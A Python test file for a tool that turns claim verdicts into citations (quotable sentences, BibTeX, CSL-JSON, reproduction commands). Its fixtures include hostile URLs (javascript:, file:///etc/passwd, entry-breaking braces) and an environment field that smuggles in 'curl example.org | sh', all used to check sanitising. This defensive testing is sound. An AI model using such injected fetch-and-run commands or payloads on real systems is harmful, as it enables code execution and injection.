"""A citation gives the verdict, figures, seeds, versions and how to reproduce it."""

import json
import shlex

import bibtexparser
import jsonschema
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware

from pytest_scaling.ledger.controls import status_of
from pytest_scaling.report.citation.bibtex import balanced, bibtex, latex
from pytest_scaling.report.citation.bibtex import source as bibtex_source
from pytest_scaling.report.citation.citation import Origin, cite
from pytest_scaling.report.citation.csl import csl
from pytest_scaling.report.citation.csl import source as csl_source
from pytest_scaling.report.citation.key import KeyFault
from pytest_scaling.report.citation.moment import address
from pytest_scaling.report.citation.project import Place, Project
from pytest_scaling.report.citation.reproduce import reproduce
from pytest_scaling.report.citation.sentence import quotable, shortened

MINUS = "\N{MINUS SIGN}"

# What CSL-JSON asks of the parts that are used here; nothing else may be in an item.
WORDS = ("id", "title", "publisher", "version", "genre", "note", "URL")
NAME = {"type": "object", "properties": {"literal": {"type": "string"}}}
CSL = {
    "type": "array",
    "items": {
        "type": "object",
        "required": ["id", "type"],
        "additionalProperties": False,
        "properties": {name: {"type": "string"} for name in WORDS}
        | {
            "type": {"enum": ["dataset", "motion_picture", "document"]},
            "author": {"type": "array", "items": NAME | {"additionalProperties": False}},
            "issued": {
                "type": "object",
                "additionalProperties": False,
                "properties": {
                    "date-parts": {
                        "type": "array",
                        "maxItems": 2,
                        "items": {
                            "type": "array",
                            "minItems": 1,
                            "maxItems": 3,
                            "items": {"type": "integer"},
                        },
                    }
                },
            },
        },
    },
}


def cited(forest, *rows):
    """The citation of the first of these rows."""
    forest.write(*rows)
    return cite(rows[0], rows, Place.of(forest.path(rows[0]["claim"]["id"])))


@pytest.fixture
def oak(make):
    return make.row("oak", "supported", make.cell("supported", make.comparison()))


def parsed(text):
    library = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware()])
    assert library.failed_blocks == []
    return {
        entry.key: {field.key: field.value for field in entry.fields} for entry in library.entries
    }


def test_the_sentence_has_verdict_effect_interval_seeds_and_versions(forest, oak):
    assert cited(forest, oak).sentence == (
        "“Oaks & elms: 100% of {both} grow” is supported (usually; control not run). "
        "Measured: error of oak minus elm on leaves, m = 64 is 0.1310, interval [0.1190, 0.1420] "
        "(one-sided level 0.01), n = 5 seeds, required to be above 0.0100. "
        "Quick tier on cpu, x86_64, float32, deterministic; Python 3.12.1, numpy 2.1.0, "
        f"pytest-scaling 0.1.0, torch 2.13.0+cpu; record sha256:{oak['digest']}."
    )


def test_of_several_comparisons_that_nearest_to_its_bound_is_told(forest, make):
    far, near = make.comparison(value=0.9), make.comparison(value=0.02, about="the near one")
    beside = make.comparison(value=0.011, about="one beside")
    row = make.row(
        "oak",
        "supported",
        make.cell("supported", far),
        make.cell("supported", near, task="bark"),
        make.cell("supported", beside, task="roots", counted=False),
    )
    citation = cited(forest, row)
    assert "in 2 of 2 cases" in citation.caption
    assert (
        "Of 2 comparisons, the one nearest to its bound: the near one is 0.0200" in citation.caption
    )
    assert "one beside" not in citation.sentence


def test_the_nearest_is_told_by_bounds_where_units_differ(forest, make):
    by_error = make.comparison(value=0.015, bound=0.01, about="half a bound away")
    by_ratio = make.comparison(unit="ratio", value=0.8, bound=0.7, about="a seventh away")
    row = make.row("oak", "supported", make.cell("supported", by_error, by_ratio))
    assert "the one nearest to its bound: a seventh away" in cited(forest, row).caption


def test_an_equivalence_of_ratios_is_within_a_factor(forest, make):
    row = make.row(
        "oak",
        "supported",
        make.cell(
            "supported",
            make.comparison(operator="within", unit="ratio", value=0.0, bound=0.6931471805599453),
        ),
    )
    assert "is 1x, " in cited(forest, row).caption
    assert "required to lie within a factor of 2x" in cited(forest, row).caption


def test_of_an_equivalence_that_nearest_to_either_bound_is_told(forest, make):
    within = [
        make.comparison(operator="within", bound=0.02, value=value, about=f"effect {value}")
        for value in (0.001, -0.015, 0.01)
    ]
    row = make.row("oak", "supported", make.cell("supported", *within))
    assert f"effect -0.015 is {MINUS}0.0150" in cited(forest, row).caption


def test_an_order_that_reverses_is_told_by_both_ends(forest, make):
    effects = [
        make.comparison(operator="reverses beyond", value=value, about=f"effect {value}")
        for value in (0.1, -0.04, 0.02)
    ]
    caption = cited(forest, make.row("oak", "supported", make.cell("supported", *effects))).caption
    assert (
        f"The smallest and the largest of 3 comparisons: effect -0.04 is {MINUS}0.0400" in caption
    )
    assert "effect 0.1 is 0.1000" in caption
    assert "effect 0.02" not in caption


def test_a_claim_on_exact_statements_is_told_without_figures(forest, make):
    exact = {"about": "all are oaks", "operator": "exact", "verdict": "supported", "sentence": ""}
    caption = cited(forest, make.row("oak", "supported", make.cell("supported", exact))).caption
    assert caption.endswith("is supported (usually; control not run).")


def test_a_limit_that_the_data_do_not_set_is_infinite(forest, make):
    race = make.comparison(unit="ratio of steps", value=0.6931471805599453, low=0.4, high=None)
    row = make.row("oak", "supported", make.cell("supported", race))
    assert "is 2.00x, interval [1.49x, ∞]" in cited(forest, row).caption


def test_a_control_tells_what_it_controls_and_a_claim_what_its_control_says(forest, make, oak):
    control = make.row(
        "elm", "refuted", make.cell("refuted", make.comparison("refuted")), control_of="oak"
    )
    assert "control refuted, as it must be" in cited(forest, oak, control).sentence
    assert (
        "is refuted (usually; a control of oak, which must be refuted)"
        in cited(forest, control, oak).sentence
    )


def test_a_verdict_that_was_not_reached_is_not_cited(forest, make):
    with pytest.raises(KeyFault, match="'oak' is not applicable"):
        cited(forest, make.row("oak", "not applicable", make.cell("not applicable")))


def test_commit_and_date_are_those_that_the_row_came_with(forest, oak):
    forest.write(oak)
    commit = forest.commit()
    citation = cited(forest, oak)
    assert (citation.commit, citation.date) == (commit, "2026-03-04")
    assert "in the ledger since 2026-03-04" in citation.sentence


def test_a_row_that_is_not_committed_as_it_is_has_no_commit(forest, make, oak):
    forest.write(oak)
    forest.commit()
    changed = make.row("oak", "refuted", make.cell("refuted", make.comparison("refuted")))
    citation = cited(forest, changed)
    assert (citation.commit, citation.date) == ("", "")


def test_the_commands_to_reproduce_are_pinned(forest, oak):
    forest.write(oak)
    commit = forest.commit()
    about, checkout, install, evaluate = cited(forest, oak).reproduce
    assert about == "# Python 3.12.1, Linux x86_64, in a clone of oaks"
    assert checkout == f"git checkout {commit}"
    assert shlex.split(install)[3:] == [
        *("install", "-e", ".", "--group", "test"),
        *("numpy==2.1.0", "pytest-scaling==0.1.0", "torch==2.13.0"),
    ]
    assert evaluate == "python -m pytest claims -k oak --scaling-tier=quick --scaling-device=cpu"


def test_a_project_without_settings_can_be_cited(tmp_path, forest, oak):
    (forest.root / "pyproject.toml").unlink()
    citation = cited(forest, oak)
    assert citation.project == "claims"
    assert citation.authors == ()
    assert shlex.split(citation.reproduce[1])[4:] == [
        "numpy==2.1.0",
        "pytest-scaling==0.1.0",
        "torch==2.13.0",
    ]


def test_bibtex_is_read_by_a_parser_as_it_was_meant(forest, oak):
    forest.write(oak)
    commit = forest.commit()
    citation = cited(forest, oak)
    entries = parsed(bibtex(citation))
    assert list(entries) == [str(citation.key), "a-teacher-on-trees"]
    verdict = entries[str(citation.key)]
    assert verdict["title"].strip("{}") == "Oaks & elms: 100% of {both} grow: supported"
    assert verdict["author"].strip("{}") == "Ada & Söhne"
    assert (verdict["year"], verdict["month"]) == ("2026", "mar")
    assert verdict["version"] == commit
    assert verdict["url"] == "https://example.org/oaks_of_ours"
    assert verdict["note"] == citation.sentence
    assert entries["a-teacher-on-trees"]["url"] == "https://example.org/talk#t=301"


def test_letters_that_mean_something_to_latex_are_escaped():
    assert latex(r"a_b & c% of $d #e {f} ~ ^ \g" + f"\n{MINUS}h") == (
        r"a\_b \& c\% of \$d \#e \{f\} \textasciitilde{} \textasciicircum{} "
        r"\textbackslash{}g $-$h"
    )


def test_an_address_that_would_break_the_entry_is_left_out(forest, make):
    source = {"title": "On trees", "author": "", "url": "https://example.org/{x} y", "times": []}
    row = make.row("oak", "supported", make.cell("supported", make.comparison()), source=source)
    assert "url" not in parsed(bibtex(cited(forest, row)))["on-trees"]


def test_csl_json_keeps_to_its_schema(forest, oak):
    forest.write(oak)
    forest.commit()
    citation = cited(forest, oak)
    verdict, source = items = json.loads(json.dumps(csl(citation)))
    jsonschema.validate(items, CSL)
    assert verdict["id"] == str(citation.key)
    assert verdict["issued"] == {"date-parts": [[2026, 3, 4]]}
    assert verdict["author"] == [{"literal": "Ada & Söhne"}]
    assert source["type"] == "motion_picture"
    assert source["URL"] == "https://example.org/talk#t=301"


def test_a_claim_without_a_source_has_one_entry(forest, make):
    row = make.row("oak", "supported", make.cell("supported", make.comparison()), source=None)
    citation = cited(forest, row)
    assert list(parsed(bibtex(citation))) == [str(citation.key)]
    assert [item["type"] for item in csl(citation)] == ["dataset"]


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://example.org/talk", "https://example.org/talk#t=301"),
        ("https://www.youtube.com/watch?v=x", "https://www.youtube.com/watch?v=x&t=301s"),
        ("https://youtu.be/x", "https://youtu.be/x?t=301s"),
        ("javascript:alert(1)", ""),
        ("", ""),
    ],
)
def test_a_link_starts_where_it_was_said(url, link):
    assert address(url, "05:01-05:17") == link


@pytest.mark.parametrize("text", ["a } b { c", "{", "}}", "{ open", r"\} x"])
def test_braces_without_a_partner_do_not_end_an_entry(text):
    assert latex(text).count("{") == latex(text).count("}")
    assert balanced(latex(text))


HOSTILE = [
    "javascript:alert(1)",
    "JavaScript://example.org/%0aalert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "https://",
    "http://[::1",
    "https://example.org/}\n@misc{x",
    "https://example.org/ x",
    'https://example.org/"onclick="',
]


@pytest.mark.parametrize("url", HOSTILE)
@pytest.mark.parametrize("times", [(), ("05:01",)])
def test_only_addresses_of_the_web_are_cited(url, times):
    origin = Origin("On trees", "A. Teacher", url, times)
    assert origin.link == ""
    assert "url" not in bibtex_source(origin) or bibtex_source(origin)["url"] == ""
    assert csl_source(origin)["URL"] == ""


def test_only_known_libraries_are_installed(forest, make):
    row = make.row("oak", "supported", make.cell("supported", make.comparison()))
    row["environment"]["libraries"]["evil-package"] = "6.6.6"
    row["environment"]["system"] = "Linux\ncurl example.org | sh #"
    forest.write(row)
    lines = reproduce(row, Place.of(forest.path("oak")))
    assert "evil-package" not in " ".join(lines)
    assert all("\n" not in line for line in lines)
    assert lines[0].startswith("# ")


@pytest.mark.parametrize(
    "toml",
    [
        "project = 3",
        "[project]\nname = 7",
        '[project]\nname = "a\\nb"\nauthors = 5\nurls = []',
        "[project]\nauthors = [3, { name = [1] }]\nurls = { source = 4 }",
        "dependency-groups = 1",
    ],
)
def test_settings_that_are_none_are_left_alone(toml, tmp_path):
    (tmp_path / "pyproject.toml").write_text(toml)
    project = Project.around(tmp_path)
    assert project.authors == ()
    assert project.url == ""
    assert "\n" not in project.name
    assert project.name


SUPPORTED, REFUTED, OPEN = "supported", "refuted", "inconclusive"


@pytest.mark.parametrize(
    ("verdict", "control", "said"),
    [
        (SUPPORTED, REFUTED, "is supported (quick tier; control refuted)."),
        (SUPPORTED, OPEN, "is supported (quick tier; control undecided)."),
        (SUPPORTED, None, "is supported (quick tier; control not run)."),
        (
            SUPPORTED,
            SUPPORTED,
            "is supported, but so is its control: not trustworthy (quick tier).",
        ),
        (REFUTED, REFUTED, "is refuted (quick tier; control refuted)."),
        (OPEN, REFUTED, "is inconclusive so far (quick tier; control refuted)."),
    ],
)
def test_the_sentence_to_quote_says_verdict_tier_and_control(forest, make, verdict, control, said):
    rows = [make.row("oak", verdict, make.cell(verdict, make.comparison(verdict)))]
    if control:
        evidence = make.cell(control, make.comparison(control))
        rows.append(make.row("elm", control, evidence, control_of="oak"))
    assert cited(forest, *rows).quotable == f"“Oaks & elms: 100% of {{both}} grow” {said}"


@pytest.mark.parametrize(
    ("verdict", "said"),
    [
        (REFUTED, "is refuted, as it must be (quick tier)."),
        (SUPPORTED, "is supported although it must be refuted (quick tier)."),
        (OPEN, "is inconclusive so far (quick tier)."),
    ],
)
def test_a_control_says_in_its_sentence_that_it_is_one(forest, make, verdict, said):
    evidence = make.cell(verdict, make.comparison(verdict))
    row = make.row("elm", verdict, evidence, control_of="oak")
    assert cited(forest, row).quotable == f"“Oaks & elms: 100% of {{both}} grow”, a control, {said}"


def test_the_sentence_to_quote_says_on_which_device_and_what_was_confirmed(make):
    row = make.row("oak", SUPPORTED, make.cell(SUPPORTED, make.comparison()))
    row = row | {"profile": row["profile"] | {"device": "cuda"}}
    row = row | {"confirmation": {"status": "not confirmed", "sentence": "not confirmed: so it is"}}
    assert quotable(row, status_of(())).endswith(
        "is supported (quick tier on cuda; control not run; not confirmed)."
    )


TWENTY = "one two three four, five six seven: eight nine ten eleven; twelve thirteen fourteen "


@pytest.mark.parametrize("verdict", [SUPPORTED, REFUTED, OPEN])
@pytest.mark.parametrize("control", [None, SUPPORTED, REFUTED, OPEN])
@pytest.mark.parametrize("text", [TWENTY * 3, "word " * 60, TWENTY, "Oaks grow.", "x" * 300])
@pytest.mark.parametrize("status", ["explored", "not confirmed"])
def test_no_sentence_to_quote_has_more_than_25_words(make, verdict, control, text, status):
    row = make.row("oak", verdict, make.cell(verdict, make.comparison(verdict)), text=text.strip())
    row = row | {"profile": row["profile"] | {"device": "cuda"}}
    row = row | {"confirmation": {"status": status, "sentence": f"{status}: so it is"}}
    other = make.row("elm", control, control_of="oak") if control else None
    for made in (row, make.row("oak", verdict, text=text.strip(), control_of="elm")):
        said = quotable(made, status_of([other] if other else []))
        assert len(said.split()) <= 25
        assert verdict in said
        assert "quick tier" in said
        assert said.startswith(f"“{text.split()[0]}"[:20])


def test_a_claim_that_is_too_long_to_quote_ends_where_a_part_of_it_does():
    assert shortened(TWENTY, 14) == TWENTY
    assert shortened(TWENTY, 13) == (
        "one two three four, five six seven: eight nine ten eleven […]"
    )
    assert shortened(TWENTY, 9) == "one two three four, five six seven […]"
    assert shortened("word " * 9, 4) == "word word word […]"
